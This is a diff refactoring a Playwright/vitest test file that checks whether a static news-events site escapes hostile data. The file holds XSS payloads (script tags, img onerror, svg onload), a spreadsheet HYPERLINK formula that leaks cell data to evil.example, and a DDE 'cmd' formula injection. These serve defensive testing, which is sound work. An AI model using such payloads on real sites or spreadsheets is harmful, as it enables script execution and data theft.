@@ -3,32 +3,22 @@
 import { describe, expect, it } from "vitest";
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
-import type { Browser } from "playwright-core";
 import { parseCsv } from "../../src/data/csv.ts";
-import { crawl, type CrawlResult, withBrowserAndSite } from "../support/browser.ts";
-import type { StaticSite } from "../support/server.ts";
+import { crawl, type CrawlResult, browserAndSite } from "../support/browser.ts";
 import { ROOT } from "../support/data-copy.ts";
 
-let browser: Browser;
-let site: StaticSite;
 let crawled: CrawlResult;
 const dialogs: string[] = [];
 
-withBrowserAndSite(
-  (b, s) => {
-    browser = b;
-    site = s;
+const web = browserAndSite({
+  scenario: "hostile",
+  prepare: async (browser, site) => {
+    const context = await browser.newContext();
+    context.on("page", (page) => page.on("dialog", async (d) => { dialogs.push(d.message()); await d.dismiss(); }));
+    crawled = await crawl(context, site.root);
+    await context.close();
   },
-  {
-    scenario: "hostile",
-    prepare: async (browser, site) => {
-      const context = await browser.newContext();
-      context.on("page", (page) => page.on("dialog", async (d) => { dialogs.push(d.message()); await d.dismiss(); }));
-      crawled = await crawl(context, site.root);
-      await context.close();
-    },
-  },
-);
+});
 
 describe("data text containing HTML and script", () => {
   it("never runs: no alert on any page", () => {
@@ -38,15 +28,15 @@ describe("data text containing HTML and script", () => {
   });
 
   it("is shown as text on the event page, the actor page and the sources page", async () => {
-    const page = await browser.newPage();
+    const page = await web.browser.newPage();
     page.on("dialog", (d) => { dialogs.push(d.message()); void d.dismiss(); });
-    await page.goto(site.root + "events/evt-2025-02-12-trump-putin-call/");
+    await page.goto(web.site.root + "events/evt-2025-02-12-trump-putin-call/");
     await expect(page.locator("h1").textContent()).resolves.toBe('Trump and Putin speak <script>alert("xss-headline")</script>');
     await expect(page.locator("body").textContent()).resolves.toContain('"><img src=x onerror=alert("xss-attr")>');
     expect(await page.locator("img[onerror], svg[onload]").count()).toBe(0);
-    await page.goto(site.root + "actors/act-donald-trump/");
+    await page.goto(web.site.root + "actors/act-donald-trump/");
     await expect(page.locator("h1").textContent()).resolves.toBe('Donald "><img src=x onerror=alert("xss-attr")> Trump');
-    await page.goto(site.root + "sources/");
+    await page.goto(web.site.root + "sources/");
     await expect(page.locator("body").textContent()).resolves.toContain("Caliber </title><svg onload=alert('xss-svg')>");
     // A publisher's classification reason (publishers.csv) is data too.
     await expect(page.locator("body").textContent()).resolves.toContain("Reposts <img src=x onerror=alert('xss-reason')> wire copy");
@@ -58,16 +48,16 @@ describe("data text containing HTML and script", () => {
   });
 
   it("keeps a URL with markup in it a plain https link, with the markup escaped", async () => {
-    const page = await browser.newPage();
-    await page.goto(site.root + "sources/");
+    const page = await web.browser.newPage();
+    await page.goto(web.site.root + "sources/");
     const href = await page.locator('a[href^="https://www.arabnews.pk/"]').first().getAttribute("href");
     expect(href).toBe('https://www.arabnews.pk/node/2592325?q=%22%3E%3Cscript%3Ealert(%22xss-url%22)%3C/script%3E');
     await page.close();
   });
 
   it("escapes markup inside the timeline's SVG", async () => {
-    const page = await browser.newPage();
-    await page.goto(site.root + "timeline/");
+    const page = await web.browser.newPage();
+    await page.goto(web.site.root + "timeline/");
     const label = await page.locator('a.tl-event[data-event-id="evt-2025-02-12-trump-putin-call"]').getAttribute("aria-label");
     expect(label).toContain('<script>alert("xss-headline")</script>');
     expect(await page.locator("svg.timeline-svg script").count()).toBe(0);
@@ -80,8 +70,8 @@ describe("data text containing HTML and script", () => {
 describe("formula cells in the downloads", () => {
   const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Rubio and Lavrov hold a phone call")';
   const cells = async (path: string) => {
-    const context = await browser.newContext();
-    const response = await context.request.get(site.root + path);
+    const context = await web.browser.newContext();
+    const response = await context.request.get(web.site.root + path);
     expect(response.status(), path).toBe(200);
     const text = await response.text();
     await context.close();
@@ -111,10 +101,10 @@ describe("formula cells in the downloads", () => {
   });
 
   it("stay exact in the JSON downloads", async () => {
-    const context = await browser.newContext();
-    const events = await (await context.request.get(site.root + "data/events.json")).json();
+    const context = await web.browser.newContext();
+    const events = await (await context.request.get(web.site.root + "data/events.json")).json();
     expect(events.find((e: { id: string }) => e.id === "evt-2025-02-15-rubio-lavrov-call").headline).toBe(HYPERLINK);
-    const figures = await (await context.request.get(site.root + "data/figures.json")).json();
+    const figures = await (await context.request.get(web.site.root + "data/figures.json")).json();
     expect(figures.find((f: { id: string }) => f.id === "fig-urif-dfc-seed-capital").label).toBe("+cmd|' /C calc'!A0");
     await context.close();
   });
